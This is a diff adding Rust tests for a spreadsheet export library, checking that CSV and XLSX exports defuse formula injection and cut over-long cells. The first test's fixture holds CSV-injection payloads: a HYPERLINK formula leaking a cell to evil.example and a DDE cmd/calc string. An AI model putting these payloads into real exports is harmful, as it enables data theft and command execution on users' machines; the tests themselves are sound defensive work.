@@ -6,8 +6,9 @@
 
 mod support;
 
+use werktafel_shared::export::cell::{CUT_MARK, MAX_CELL_UNITS};
 use werktafel_shared::export::{
-    csv, html, iso8601, json, markdown, package, parse_iso8601, svg, xlsx,
+    Formulas, csv, html, iso8601, json, markdown, package, parse_iso8601, svg, xlsx,
 };
 use werktafel_shared::schema;
 use werktafel_shared::{CsvDelimiter, ExportError, TableState};
@@ -253,6 +254,102 @@ fn xlsx_opens_with_a_sheet_per_table_all_notes_and_next_steps() {
             "Ondergrond in kaart brengen met alle gemeenten"
         ]
     );
+}
+
+#[test]
+fn csv_and_xlsx_defuse_formulas_unless_asked_to_keep_them() {
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")";
+    let fixture = one_note(
+        formula,
+        &[
+            ("author", "@SUM(1+1)*cmd|' /C calc'!A0"),
+            ("owner", "+31 6 1234"),
+            ("due", "-1"),
+        ],
+    );
+    let snapshot = fixture.snapshot();
+    let defused = [
+        format!("'{formula}"),
+        "'@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
+        "'+31 6 1234".to_owned(),
+        "'-1".to_owned(),
+    ];
+    let kept = [
+        formula.to_owned(),
+        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
+        "+31 6 1234".to_owned(),
+        "-1".to_owned(),
+    ];
+    for (options, expected) in [
+        (options(), &defused),
+        (options().with_formulas(Formulas::Keep), &kept),
+    ] {
+        let rows = read_csv(&csv::notes_csv(&snapshot, &options).expect("CSV"), b',');
+        let note = &rows[1];
+        assert_eq!(
+            [&note[4], &note[5], &note[10], &note[11]],
+            [&expected[0], &expected[1], &expected[2], &expected[3]],
+            "CSV with {:?}",
+            options.formulas
+        );
+
+        let sheets = xlsx_sheets(&xlsx::workbook(&snapshot, &options).expect("workbook"));
+        let (_, table_a) = &sheets[0];
+        assert_eq!(
+            [&table_a[1][1], &table_a[1][2]],
+            [&expected[0], &expected[1]]
+        );
+        let (_, steps) = &sheets[5];
+        assert_eq!(
+            [&steps[1][2], &steps[1][3], &steps[1][4], &steps[1][6]],
+            [&expected[0], &expected[2], &expected[3], &expected[1]],
+            "next steps sheet with {:?}",
+            options.formulas
+        );
+    }
+}
+
+#[test]
+fn fields_longer_than_an_excel_cell_export_in_every_format_cut_and_marked() {
+    let long = "x".repeat(40_000);
+    let emoji = "🌳".repeat(20_000);
+    let formula = format!("={}", "1".repeat(40_000));
+    let fixture = one_note(
+        &long,
+        &[("author", &emoji), ("owner", &formula), ("due", &long)],
+    );
+    let snapshot = fixture.snapshot();
+    let options = options();
+
+    let book = xlsx::workbook(&snapshot, &options).expect("a workbook despite long fields");
+    let sheets = xlsx_sheets(&book);
+    let utf16 = |s: &str| s.encode_utf16().count();
+    let (_, steps) = &sheets[5];
+    for cell in [&steps[1][2], &steps[1][3], &steps[1][4], &steps[1][6]] {
+        assert!(
+            cell.ends_with(CUT_MARK),
+            "cut and marked: …{}",
+            &cell[cell.len() - 20..]
+        );
+        assert!(utf16(cell) <= MAX_CELL_UNITS);
+    }
+    assert!(steps[1][3].starts_with("'="), "defused, then cut");
+    assert!(
+        steps[1][6]
+            .trim_end_matches(CUT_MARK)
+            .chars()
+            .all(|c| c == '🌳')
+    );
+
+    let package = package::package(&snapshot, &fixture.states(), &options).expect("a ZIP");
+    assert!(!package.is_empty());
+    let csv = csv::notes_csv(&snapshot, &options).expect("CSV");
+    let rows = read_csv(&csv, b',');
+    assert_eq!(rows[1][4], long, "the CSV keeps every character");
+    assert!(markdown::workbook(&snapshot, &options).contains(&long));
+    assert!(html::report(&snapshot, &options).contains(&long));
+    json::write_archive(&fixture.event, &fixture.states(), &options).expect("archive");
+    assert!(svg::board("Bord", &snapshot.tables[0].notes).contains("xxxx"));
 }
 
 #[test]
